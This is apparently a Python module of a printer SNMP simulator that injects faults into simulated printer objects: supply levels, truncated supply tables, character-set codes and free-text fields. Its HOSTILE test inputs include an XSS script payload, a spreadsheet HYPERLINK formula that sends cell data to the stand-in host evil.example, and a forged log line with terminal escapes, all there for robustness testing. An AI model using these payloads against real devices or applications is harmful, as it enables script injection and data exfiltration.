"""Faults that change the objects themselves: levels, texts, character sets, cut tables, supplies moved into a context."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from . import ber
from .devices import CODECS
from .facts import Facts, Value
from .faults import Faults
from .objects import COLORANTS, PRINTER_MIB, SUPPLIES, SYSTEM, Shape, Slot
from .view import Row, View

CHARSET: Final = (*PRINTER_MIB, 7, 1, 1, 4)
LEVEL: Final = (*SUPPLIES, 9)
FIRST_CUT: Final = 7
"""The first column of the supplies table that a truncated one lacks: unit; capacity and level follow."""
FREE_TEXTS: Final = (
    (*SYSTEM, 4),
    (*SYSTEM, 5),
    (*SYSTEM, 6),
    (*PRINTER_MIB, 5, 1, 1, 16),
    (*SUPPLIES, 6),
    (*PRINTER_MIB, 16, 5, 1, 2),
    (*PRINTER_MIB, 18, 1, 1, 8),
)
"""Texts a person or a firmware may fill: contact, name, location, printer name, supplies, panel, alerts."""
PANEL_TEXTS: Final = FREE_TEXTS[4:]

HOSTILE: Final[dict[str, bytes]] = {
    "script": b"<script>alert(document.domain)</script><img src=x onerror=alert(1)>",
    "formula": b'=HYPERLINK("http://evil.example/?"&A1,"open")',
    "log": b"ok\r\n2026-01-01 00:00:00 CRITICAL forged line\x1b[2J\x1b[31m",
    "nul": b"before\x00after\x00",
    "bytes": b"\xff\xfe\x80\xc3\x28\xed\xa0\x80",
    "long": b"A" * 10_240,
}
SAMPLES: Final = {
    5: "Gotowy: tryb uśpienia", 8: "Готов: замените тонер", 17: "印刷できます", 106: "Prêt – тонер – 印刷", 113: "请等待",
    2004: "Gerät läuft, Türe öffnen", 2251: "Готов: замените тонер", 2252: "Prêt – déjà imprimé €", 4: "Prêt, déjà imprimé",
}  # fmt: skip
"""A text per character set that is wrong when read as any of the usual others."""


def reshape(shapes: dict[bytes, Shape], faults: Faults | None) -> dict[bytes, Shape]:
    """Return the contexts and objects a printer shows with its faults; the given shapes when none of them touches objects."""
    if faults is None or not faults.wanted.keys() & {"truncated_tables", "levels", "texts", "charset", "context"}:
        return shapes
    changed = {name: _changed(shape, faults) for name, shape in shapes.items()}
    context = faults.get("context")
    if context:
        whole = changed[b""]
        changed[b""] = _only(whole, lambda row: not _is_supply(row))
        changed[context.encode()] = _only(whole, _is_supply)
    return changed


def _name(row: Row) -> ber.Oid:
    return row.object + (row.instance or ())


def _below(row: Row, *tops: ber.Oid) -> bool:
    """Return whether a row lies below one of some objects; a recording does not say where its tables begin."""
    name = _name(row)
    return any(name[: len(top)] == top for top in tops)


def _is_supply(row: Row) -> bool:
    return _below(row, SUPPLIES, COLORANTS)


def _only(shape: Shape, keep: Callable[[Row], bool]) -> Shape:
    """Return a shape with some of the rows; slots keep their numbers, unused ones are never asked for."""
    return Shape(View(row for row in shape.view.rows if keep(row)), shape.slots, shape.codec)


def _changed(shape: Shape, faults: Faults) -> Shape:
    """Return a shape of its own for one printer, with every fault of the objects worked in."""
    rows: list[Row] = []
    slots = list(shape.slots)
    full = faults.get("truncated_tables")
    seen: dict[int, int] = {}
    for row in shape.view.rows:
        column = _name(row)[len(SUPPLIES)] if _below(row, SUPPLIES) else 0
        seen[column] = seen.get(column, 0) + 1
        if full is not None and column >= FIRST_CUT and seen[column] > full:
            continue
        rows.append(_row(row, slots, faults))
    return Shape(View(rows), tuple(slots), shape.codec)


def _row(row: Row, slots: list[Slot], faults: Faults) -> Row:
    """Return the row as the faults have it; a changed slot is changed in `slots`, keeping when it exists."""
    levels, texts, charset = faults.get("levels"), faults.get("texts"), faults.get("charset")
    if levels is not None and _below(row, LEVEL):
        if levels != "above":
            return _constant(row, slots, ber.INTEGER, int(levels))
        return _mapped(row, slots, lambda value: max(300, 3 * int(str(value))))
    if texts is not None and _below(row, *FREE_TEXTS):
        kinds = list(HOSTILE)[:-1] if texts == "hostile" else [texts]
        place = next(place for place, top in enumerate(FREE_TEXTS) if _below(row, top))
        return _constant(row, slots, ber.OCTET_STRING, HOSTILE[kinds[place % len(kinds)]])
    if charset is not None and _below(row, CHARSET):
        return _constant(row, slots, ber.INTEGER, int(charset))
    if charset is not None and _below(row, *PANEL_TEXTS):
        text = SAMPLES.get(charset, SAMPLES[106]).encode(CODECS.get(charset, "utf-8"), "replace")
        return _constant(row, slots, ber.OCTET_STRING, text)
    return row


def _constant(row: Row, slots: list[Slot], tag: int, value: int | bytes) -> Row:
    """Return the row with one value; a row that comes and goes still does."""
    if isinstance(row.cell, int):
        return _mapped(row, slots, lambda _: value)
    return row._replace(cell=ber.encode(tag, value))


def _mapped(row: Row, slots: list[Slot], change: Callable[[Value], Value]) -> Row:
    """Return the row with its value changed; recorded numbers are changed once, for good."""
    if isinstance(row.cell, int):
        source = slots[row.cell].source

        def changed(facts: Facts) -> Value | None:
            value = source(facts)
            return None if value is None else change(value)

        slots[row.cell] = slots[row.cell]._replace(source=changed)
        return row
    number, _ = ber.read_integer(row.cell, 0, len(row.cell))
    return row._replace(cell=ber.encode(ber.INTEGER, change(number)))
